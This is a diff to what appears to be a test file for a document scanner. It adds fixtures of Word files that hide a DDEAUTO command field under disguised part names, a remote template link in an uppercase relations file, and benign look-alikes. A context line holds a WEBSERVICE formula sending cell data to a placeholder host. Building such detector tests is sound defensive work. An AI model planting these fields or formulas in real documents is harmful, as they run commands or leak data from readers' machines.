@@ -90,6 +90,18 @@ def field(order: str) -> bytes:
     return made.docx({"word/footer1.xml": f'<w:ftr xmlns:w="{W}">{begins}{text}</w:ftr>'})
 
 
+def under_another_name(part: str, encoding: str = "utf-8") -> bytes:
+    """Word finds a part by what the archive says of it: its name may be anything."""
+    text = f'<?xml version="1.0"?><w:ftr xmlns:w="{W}"><w:instrText>DDEAUTO cmd</w:instrText></w:ftr>'
+    return made.docx({part: text.encode(encoding)})
+
+
+def relations_in_capitals() -> bytes:
+    parts = made.docx_parts(relations=made.relation("attachedTemplate", "https://x.invalid/m.dotm"))
+    name = "word/_rels/document.xml.rels"
+    return made.archive({key.upper() if key == name else key: content for key, content in parts.items()})
+
+
 def formula(written: str) -> bytes:
     return made.xlsx(lambda book, sheet: sheet.write_formula(3, 3, written))
 
@@ -113,6 +125,9 @@ ACTING = {
     "une formule qui appelle": ("a.xlsx", formula('=_xlfn.WEBSERVICE("https://x.invalid/?"&A1)')),
     "une formule qui montre": ("a.xlsx", formula('=_xlfn.IMAGE("https://x.invalid/a.png")')),
     "un champ lié": ("a.docx", field('LINK Excel.Sheet.8 "\\\\x.invalid\\a.xls" "F" \\a')),
+    "un champ sous un autre nom": ("a.docx", under_another_name("word/footer.dat")),
+    "un champ sous un nom d’image": ("a.docx", under_another_name("word/media/image1.png", "utf-16")),
+    "des relations en capitales": ("a.docx", relations_in_capitals()),
     "un champ de base": ("a.docx", field('DATABASE \\d "C:\\x" \\c "DSN=x"')),
 }
 
@@ -130,6 +145,11 @@ QUIET = {
     "un objet rangé dedans": ("a.odt", open_paper('<draw:object xlink:href="./formule"/>')),
     "un lien à cliquer": ("a.odt", open_paper('<text:a xlink:href="https://www.adil62.org/">ADIL</text:a>')),
     "le modèle du courrier": ("a.odt", open_paper('<text:template xlink:href="file:///C:/modeles/courrier.ott"/>')),
+    "un dessin et sa photo": (
+        "a.docx",
+        made.docx({"word/media/image1.svg": '<svg xmlns:x="u"><image x:href="data:image/png;base64,AA=="/></svg>'}),
+    ),
+    "une police brouillée": ("a.docx", made.docx({"word/fonts/font1.odttf": b"<a" + bytes(range(200))})),
     "un lien de Word": ("a.docx", field('HYPERLINK "https://www.adil62.org/import-link/"')),
     "une feuille nommée Import": ("a.ods", cell("[$IMPORT.A1]+[$LINK.B2]")),
     "une feuille de la DDE": ("a.xlsx", formula("=DDE!A1+Link!B2")),
